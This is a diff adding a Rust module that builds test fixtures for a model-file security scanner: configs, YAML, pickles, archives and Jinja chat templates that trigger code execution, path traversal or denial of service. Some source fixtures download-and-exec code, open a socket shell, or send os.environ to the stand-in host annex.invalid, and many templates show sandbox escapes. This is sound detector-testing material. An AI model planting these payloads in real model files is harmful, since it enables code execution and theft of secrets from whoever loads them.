@@ -1,0 +1,508 @@
+//! More configurations and sources beside a model that name or hold code.
+
+use serde_json::{Value, json};
+
+use crate::model_files::case::{Case, Group};
+use crate::model_files::pickle::{CODE, COMMAND, empty, system};
+use crate::model_files::tar::tar_of;
+use crate::model_files::torch::archive;
+use crate::model_files::zip::zip_of;
+
+const SOURCE: &str = "import os\n\nos.system('echo annex')\n";
+const CYCLER: &str = "{{ cycler.__init__.__globals__.os.popen('echo annex').read() }}";
+
+/// All of them.
+pub(crate) fn add(cases: &mut Vec<Case>) {
+    hub(&mut Group::new("second-hub", cases));
+    targets(&mut Group::new("second-targets", cases));
+    servers(&mut Group::new("second-servers", cases));
+    sources(&mut Group::new("second-source", cases));
+    templates(&mut Group::new("second-template", cases));
+}
+
+fn put(group: &mut Group, trick: &str, file: &str, value: &Value) {
+    group.named(trick, file, format!("{value:#}\n").into_bytes());
+}
+
+/// What the hub's libraries read.
+fn hub(group: &mut Group) {
+    let remote = || json!({"AutoModel": "modeling_annex.AnnexModel"});
+    for (trick, file, value) in [
+        ("generation", "generation_config.json", json!({"auto_map": remote()})),
+        ("video-processor", "video_preprocessor_config.json", json!({"auto_map": remote()})),
+        (
+            "feature-extractor",
+            "preprocessor_config.json",
+            json!({"auto_map": {"AutoFeatureExtractor": "feature_annex.AnnexExtractor"}}),
+        ),
+        (
+            "backbone",
+            "config.json",
+            json!({"model_type": "detr", "backbone_config": {"auto_map": remote()}}),
+        ),
+        (
+            "quantizer",
+            "config.json",
+            json!({"model_type": "bert",
+            "quantization_config": {"quant_method": "annex", "auto_map": remote()}}),
+        ),
+        (
+            "kernel",
+            "config.json",
+            json!({"model_type": "llama", "_attn_implementation": "annex/attention"}),
+        ),
+        ("trusted-only", "config.json", json!({"model_type": "annex", "trust_remote_code": true})),
+        (
+            "list-of-classes",
+            "tokenizer_config.json",
+            json!({"auto_map":
+            {"AutoTokenizer": [null, "annex/code--tokenization_annex.AnnexFast"]}}),
+        ),
+        (
+            "parent-library",
+            "adapter_config.json",
+            json!({"peft_type": "LORA", "auto_mapping":
+            {"base_model_class": "system", "parent_library": "os"}}),
+        ),
+        (
+            "adapter-remote",
+            "adapter_config.json",
+            json!({"peft_type": "LORA", "base_model_name_or_path":
+            "annex/base", "auto_map": remote()}),
+        ),
+        (
+            "adapter-outside",
+            "adapter_config.json",
+            json!({"peft_type": "LORA",
+            "base_model_name_or_path": "../../../../etc"}),
+        ),
+        (
+            "diffusers-builtins",
+            "model_index.json",
+            json!({"_class_name": "StableDiffusionPipeline",
+            "safety_checker": ["builtins", "eval"]}),
+        ),
+        (
+            "diffusers-os",
+            "model_index.json",
+            json!({"_class_name": "StableDiffusionPipeline",
+            "unet": ["subprocess", "Popen"]}),
+        ),
+        (
+            "diffusers-modular",
+            "modular_model_index.json",
+            json!({"_class_name": "ModularPipeline",
+            "auto_map": {"ModularPipelineBlocks": "block.AnnexBlocks"}}),
+        ),
+        (
+            "diffusers-component",
+            "config.json",
+            json!({"_class_name": "AnnexUNet",
+            "auto_map": {"AutoModel": "unet_annex.AnnexUNet"}}),
+        ),
+        (
+            "sentence-arguments",
+            "sentence_bert_config.json",
+            json!({"max_seq_length": 128,
+            "model_args": {"trust_remote_code": true}}),
+        ),
+        (
+            "sentence-module-os",
+            "modules.json",
+            json!([{"idx": 0, "name": "0", "path": "", "type": "os.system"}]),
+        ),
+        (
+            "sentence-module-remote",
+            "modules.json",
+            json!([{"idx": 0, "name": "0", "path": "", "type": "annex/code--custom_st.Transformer"}]),
+        ),
+        (
+            "timm",
+            "config.json",
+            json!({"architecture": "annex", "model_args": {"auto_map": remote()}}),
+        ),
+        (
+            "task-parameters",
+            "config.json",
+            json!({"model_type": "bert", "custom_pipelines":
+            {"annex": {"impl": "annex/code--pipeline_annex.Pipeline"}}}),
+        ),
+        (
+            "agent-tool",
+            "tool_config.json",
+            json!({"name": "annex", "custom_tool": {"impl": "tool.AnnexTool"}}),
+        ),
+        (
+            "dataset-script",
+            "dataset_infos.json",
+            json!({"default": {"builder_name": "annex", "script": "annex.py",
+            "trust_remote_code": true}}),
+        ),
+    ] {
+        put(group, trick, file, &value);
+    }
+    group.named("jsonpickle", "model.json", format!(
+        "{{\"py/reduce\": [{{\"py/function\": \"os.system\"}}, {{\"py/tuple\": [\"{COMMAND}\"]}}]}}\n"
+    ).into_bytes());
+    group.named(
+        "jsonpickle-object",
+        "state.json",
+        br#"{"py/object": "subprocess.Popen", "args": "echo annex"}"#.to_vec(),
+    );
+    group.named(
+        "jsonpickle-repr",
+        "state.json",
+        br#"{"py/repr": "os/os.system('echo annex')"}"#.to_vec(),
+    );
+    put(
+        group,
+        "langchain-constructor",
+        "chain.json",
+        &json!({"lc": 1, "type": "constructor",
+        "id": ["langchain", "tools", "python", "PythonREPLTool"], "kwargs": {}}),
+    );
+    put(
+        group,
+        "langchain-template",
+        "prompt.json",
+        &json!({"_type": "prompt", "template_format": "jinja2",
+        "input_variables": [], "template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}),
+    );
+    put(
+        group,
+        "langchain-template-file",
+        "prompt.json",
+        &json!({"_type": "prompt",
+        "input_variables": [], "template_path": "/etc/passwd"}),
+    );
+    put(
+        group,
+        "mxnet-custom",
+        "model-symbol.json",
+        &json!({"nodes": [{"op": "Custom", "name": "a",
+        "attrs": {"op_type": "annex_system"}, "inputs": []}], "arg_nodes": [], "heads": [[0, 0, 0]]}),
+    );
+}
+
+/// Targets in YAML.
+fn targets(group: &mut Group) {
+    for (trick, file, text) in [
+        ("hydra-alone", "config.yaml", "model:\n  _target_: os.system\n  command: echo annex\n"),
+        (
+            "hydra-list",
+            "config.yaml",
+            "callbacks:\n  - _target_: builtins.exec\n    _args_: ['1']\n",
+        ),
+        ("hydra-chain", "model.yaml", "a: {_target_: operator.attrgetter, _args_: [system]}\n"),
+        (
+            "hydra-flow",
+            "train.yaml",
+            "{trainer: {_target_: subprocess.call, args: [echo, annex]}}\n",
+        ),
+        (
+            "hydra-get-object",
+            "config.yaml",
+            "a: {_target_: hydra.utils.get_object, path: os.system}\n",
+        ),
+        ("hydra-torch-load", "config.yaml", "a: {_target_: torch.load, f: /nonexistent/annex}\n"),
+        (
+            "hydra-numpy",
+            "config.yaml",
+            "a: {_target_: numpy.load, file: a.npy, allow_pickle: true}\n",
+        ),
+        ("hydra-pydoc", "config.yaml", "a: {_target_: pydoc.locate, _args_: [os.system]}\n"),
+        (
+            "hyperparameters-tag",
+            "hparams.yaml",
+            "a: !!python/object/apply:os.system [echo annex]\n",
+        ),
+        ("hyperparameters-module", "hparams.yaml", "a: !!python/module:antigravity\n"),
+        ("tag-of-object", "params.yml", "!!python/object:subprocess.Popen {args: echo annex}\n"),
+        ("tag-in-key", "params.yml", "? !!python/object/apply:os.system [echo annex]\n: 1\n"),
+        (
+            "tag-second-document",
+            "params.yml",
+            "a: 1\n---\n!!python/object/apply:os.system [echo annex]\n",
+        ),
+        (
+            "tag-encoded",
+            "params.yml",
+            "a: !<tag:yaml.org,2002:python/object/appl%79:os.system> [echo annex]\n",
+        ),
+        ("ruby-tag", "params.yml", "a: !ruby/object:Gem::Installer\n  i: x\n"),
+        (
+            "java-tag",
+            "params.yml",
+            "!!javax.script.ScriptEngineManager [!!java.net.URL ['http://annex.invalid']]\n",
+        ),
+        (
+            "yolo-download",
+            "data.yaml",
+            "path: a\ntrain: images\nnames: {0: a}\ndownload: |\n  import os\n  os.system('echo annex')\n",
+        ),
+        (
+            "yolo-layer",
+            "yolo.yaml",
+            "nc: 1\nbackbone:\n  - [-1, 1, \"__import__('os').system('echo annex')\", [64]]\nhead: []\n",
+        ),
+        ("interpolation", "config.yaml", "a: {_target_: \"${b}\"}\nb: os.system\n"),
+        ("detectron", "model_zoo.yaml", "_BASE_: !!python/object/apply:eval ['1']\n"),
+        (
+            "haystack",
+            "pipeline.yaml",
+            "components:\n  a:\n    type: subprocess.Popen\n    init_parameters: {args: echo annex}\n",
+        ),
+        ("langchain-shell", "chain.yaml", "_type: llm_bash_chain\nprompt: {_type: prompt}\n"),
+    ] {
+        group.named(trick, file, text.as_bytes().to_vec());
+    }
+    let nemo = |config: &str| {
+        tar_of(&[
+            ("model_config.yaml", config.as_bytes()),
+            ("model_weights.ckpt", &archive("a", &empty(2))),
+        ])
+    };
+    group
+        .file("target-environment.nemo", nemo("a: \"${oc.env:HOME}\"\nm: {_target_: os.getenv}\n"));
+    group.file(
+        "target-lightning.nemo",
+        nemo("trainer: {_target_: shutil.rmtree, path: /nonexistent/annex}\n"),
+    );
+    group.file("target-old-key.nemo", nemo("target: os.system\n"));
+    group.file("class-path.nemo", nemo("cls: os.system\nparams: {command: echo annex}\n"));
+    group.file(
+        "tokenizer-pickle.nemo",
+        tar_of(&[
+            ("model_config.yaml", b"target: nemo.collections.nlp.models.Model\n"),
+            ("tokenizer.pkl", &system(2)),
+        ]),
+    );
+    group.file(
+        "source-beside.nemo",
+        tar_of(&[
+            ("model_config.yaml", b"target: nemo.collections.nlp.models.Model\n"),
+            ("annex.py", SOURCE.as_bytes()),
+        ]),
+    );
+}
+
+/// Serving: `TorchServe`, Triton, `MLflow`, `MLServer`.
+fn servers(group: &mut Group) {
+    put(
+        group,
+        "mlserver",
+        "model-settings.json",
+        &json!({"name": "annex", "implementation": "annex_runtime.Runtime"}),
+    );
+    put(
+        group,
+        "mlserver-os",
+        "model-settings.json",
+        &json!({"name": "annex", "implementation": "subprocess.Popen"}),
+    );
+    for (trick, file, text) in [
+        (
+            "mlflow-code",
+            "MLmodel",
+            "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: agent.py\n",
+        ),
+        (
+            "mlflow-code-paths",
+            "MLmodel",
+            "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n    data: model.pkl\n    env: conda.yaml\n  sklearn:\n    code: ../../code\n",
+        ),
+        (
+            "mlflow-custom-loader",
+            "MLmodel",
+            "flavors:\n  python_function:\n    loader_module: annex.loader\n",
+        ),
+        (
+            "mlflow-data-outside",
+            "MLmodel",
+            "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    data: ../../../../etc/passwd\n",
+        ),
+        (
+            "packages-index",
+            "requirements.txt",
+            "--extra-index-url http://annex.invalid/simple\nannex==1\n",
+        ),
+        ("packages-address", "requirements.txt", "annex @ http://annex.invalid/annex.whl\n"),
+        (
+            "packages-repository",
+            "requirements.txt",
+            "git+https://annex.invalid/annex.git#egg=annex\n",
+        ),
+        (
+            "packages-conda",
+            "conda.yaml",
+            "dependencies:\n  - pip:\n    - --index-url http://annex.invalid/simple\n    - annex\n",
+        ),
+        (
+            "triton-python",
+            "config.pbtxt",
+            "name: \"annex\"\nbackend: \"python\"\nparameters: {\n  key: \"EXECUTION_ENV_PATH\"\n  value: {string_value: \"/nonexistent/annex.tar.gz\"}\n}\n",
+        ),
+        (
+            "caffe-python",
+            "deploy.prototxt",
+            "layer {\n  name: \"a\"\n  type: \"Python\"\n  python_param {\n    module: \"os\"\n    layer: \"system\"\n  }\n}\n",
+        ),
+        (
+            "ollama-adapter",
+            "Modelfile",
+            "FROM /etc/passwd\nADAPTER ../../annex.gguf\nTEMPLATE \"\"\"{{ .Prompt }}\"\"\"\n",
+        ),
+        ("path-file", "annex.pth", "import os; os.system('echo annex')\n"),
+    ] {
+        group.named(trick, file, text.as_bytes().to_vec());
+    }
+    let manifest = |handler: &str| {
+        format!(
+            "{{\"runtime\": \"python\", \"model\": {{\"modelName\": \"annex\", \"handler\": \"{handler}\", \"serializedFile\": \"model.pt\"}}}}"
+        )
+    };
+    let mar = |handler: &str, files: &[(&str, &[u8])]| {
+        let manifest = manifest(handler);
+        zip_of(&[&[("MAR-INF/MANIFEST.json", manifest.as_bytes())], files].concat())
+    };
+    group.file(
+        "handler-in-folder.mar",
+        mar("code/handler.py", &[("code/handler.py", SOURCE.as_bytes())]),
+    );
+    group.file("handler-missing.mar", mar("annex_handler.py", &[]));
+    group.file(
+        "setup-beside.mar",
+        mar("image_classifier", &[("setup.sh", b"#!/bin/sh\necho annex\n")]),
+    );
+    group.file(
+        "workflow.war",
+        zip_of(&[
+            (
+                "WAR-INF/MANIFEST.json",
+                b"{\"workflow\": {\"workflowName\": \"a\", \"handler\": \"handler.py\"}}",
+            ),
+            ("handler.py", SOURCE.as_bytes()),
+        ]),
+    );
+    let node = |body: Value| zip_of(&[("schema.json", format!("{body:#}").as_bytes())]);
+    let function = json!({"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content":
+        {"module_path": "os", "function": "system"}});
+    for (trick, loader, class) in [
+        ("partial", "PartialNode", "partial"),
+        ("defaultdict", "DefaultDictNode", "defaultdict"),
+        ("cached", "CachedNode", "A"),
+        ("list", "ListNode", "list"),
+    ] {
+        let body = json!({"__class__": class, "__module__": "functools", "__loader__": loader,
+            "content": [function], "protocol": 2, "_skops_version": "0.16.0"});
+        group.file(&format!("skops-{trick}.skops"), node(body));
+    }
+}
+
+/// Sources that run when a model's folder is loaded.
+fn sources(group: &mut Group) {
+    for file in [
+        "hubconf.py",
+        "handler.py",
+        "modeling_annex.py",
+        "__init__.py",
+        "inference.py",
+        "setup.py",
+        "sitecustomize.py",
+        "conftest.py",
+    ] {
+        group.named(&file.replace('.', "-"), file, SOURCE.into());
+    }
+    for (trick, text) in [
+        ("base64-exec", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n".to_owned()),
+        ("download-exec", "import urllib.request\nexec(urllib.request.urlopen('http://annex.invalid/').read())\n".to_owned()),
+        ("reverse-shell", "import socket, subprocess\ns = socket.create_connection(('annex.invalid', 99))\nsubprocess.call(['echo'], stdin=s.fileno())\n".to_owned()),
+        ("getattr", "getattr(__import__('o' + 's'), 'sys' + 'tem')('echo annex')\n".to_owned()),
+        ("ctypes", "import ctypes\nctypes.CDLL('/nonexistent/annex.so')\n".to_owned()),
+        ("marshal", "import marshal\nexec(marshal.loads(b'N'))\n".to_owned()),
+        ("pickle", "import pickle\npickle.loads(b'N.')\n".to_owned()),
+        ("decorator", format!("@eval\n@lambda f: {CODE:?}\nclass A: pass\n")),
+        ("install", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'annex'])\n".to_owned()),
+        ("environment", "import os, urllib.request\nurllib.request.urlopen('http://annex.invalid/', data=str(os.environ).encode())\n".to_owned()),
+    ] {
+        group.named(trick, "modeling_annex.py", text.into_bytes());
+    }
+    let cell = json!({"cells": [{"cell_type": "code", "source": ["!echo annex\n"], "metadata": {}, "outputs": []}],
+        "metadata": {}, "nbformat": 4, "nbformat_minor": 5});
+    put(group, "notebook", "demo.ipynb", &cell);
+}
+
+fn templates(group: &mut Group) {
+    for (trick, text) in [
+        ("url-for", "{{ url_for.__globals__ }}"),
+        ("get-flashed", "{{ get_flashed_messages.__globals__['os'] }}"),
+        ("config-class", "{{ config.__class__.__init__.__globals__ }}"),
+        (
+            "request-application",
+            "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
+        ),
+        ("tojson-of-class", "{{ ''.__class__|tojson }}"),
+        ("loop-globals", "{% for m in messages %}{{ loop.__init__.__globals__ }}{% endfor %}"),
+        ("loop-cycle", "{% for m in messages %}{{ loop.cycle.__func__ }}{% endfor %}"),
+        ("macro-globals", "{% macro m() %}{% endmacro %}{{ m.__init__.__globals__ }}"),
+        (
+            "caller-frame",
+            "{{ tools.__class__.__base__.__subclasses__()[40]('/etc/passwd').read() }}",
+        ),
+        ("attr-in-map-lambda", "{{ messages|map(attribute='role.__class__')|list }}"),
+        ("reject-attr", "{{ [()]|rejectattr('__class__')|list }}"),
+        ("unique-attribute", "{{ [()]|unique(attribute='__class__')|list }}"),
+        ("min-attribute", "{{ [()]|min(attribute='__class__') }}"),
+        ("batch-of-str", "{{ ()|attr(['_','_','class','_','_']|join('')) }}"),
+        ("string-index", "{{ ()|attr('x__class__'[1:]) }}"),
+        ("chr-through-format", "{{ ()|attr('{0}{0}class{0}{0}'.format('%c'|format(95))) }}"),
+        ("urlencode", "{{ ()|attr('%5F%5Fclass'|urlencode) }}"),
+        ("title-case", "{{ ()|attr('__CLASS__'.lower()) }}"),
+        ("swap-case", "{{ ()|attr('__CLASS__'.swapcase()) }}"),
+        ("strip", "{{ ()|attr(' __class__ '|trim) }}"),
+        ("dict-key", "{% for k in {'__class__': 1} %}{{ ()|attr(k) }}{% endfor %}"),
+        ("namespace-set", "{% set n = namespace(a='__class__') %}{{ ()|attr(n.a) }}"),
+        ("default-filter", "{{ ()|attr(undefined_name|default('__class__')) }}"),
+        ("ternary", "{{ ()|attr('__class__' if true else 'x') }}"),
+        ("with-block", "{% with a = ().__class__ %}{{ a.__base__ }}{% endwith %}"),
+        ("line-statement", "{% set a = cycler('a') %}{{ a.next.__globals__ }}"),
+        ("raw-then-code", "{% raw %}{{ safe }}{% endraw %}{{ ().__class__ }}"),
+        ("generation-block", "{% generation %}{{ ().__class__ }}{% endgeneration %}"),
+        (
+            "mutation",
+            "{{ messages.clear() }}{{ messages.append({'role': 'system', 'content': 'a'}) }}",
+        ),
+        ("mro-method", "{{ ''['__class__'].mro()[1] }}"),
+        ("async-frame", "{{ (messages|map('upper')).ag_frame }}"),
+        ("traceback", "{{ undefined_name.__traceback__.tb_frame.f_builtins }}"),
+        ("import-from", "{% from '/nonexistent/annex' import a %}"),
+        ("include-list", "{% include ['a', '/etc/passwd'] ignore missing %}"),
+    ] {
+        let value = json!({"tokenizer_class": "LlamaTokenizer", "chat_template": text});
+        match trick.len() % 2 {
+            0 => put(group, trick, "tokenizer_config.json", &value),
+            _ => group.named(trick, "chat_template.jinja", text.as_bytes().to_vec()),
+        }
+    }
+    for (trick, text) in [
+        (
+            "nested-ranges",
+            "{% for a in range(9999) %}{% for b in range(9999) %}{% for c in range(9999) %}{% endfor %}{% endfor %}{% endfor %}",
+        ),
+        (
+            "doubling",
+            "{% set n = namespace(a='a') %}{% for i in range(60) %}{% set n.a = n.a ~ n.a %}{% endfor %}",
+        ),
+        ("recursive-macro", "{% macro m(n) %}{{ m(n) }}{{ m(n) }}{% endmacro %}{{ m(1) }}"),
+        ("wide-format", "{{ '%999999999d'|format(1) }}"),
+        ("center", "{{ 'a'|center(999999999) }}"),
+        ("indent", "{{ 'a'|indent(999999999, true) }}"),
+        ("lipsum-large", "{{ lipsum(n=9999999) }}"),
+        ("ljust", "{{ 'a'.ljust(999999999) }}"),
+        ("list-times", "{{ [0] * 999999999 }}"),
+    ] {
+        group.hidden(&format!("{trick}.jinja"), text.as_bytes().to_vec());
+    }
+    let processor = json!({"chat_template": {"default": CYCLER}});
+    put(group, "template-in-map", "processor_config.json", &processor);
+}
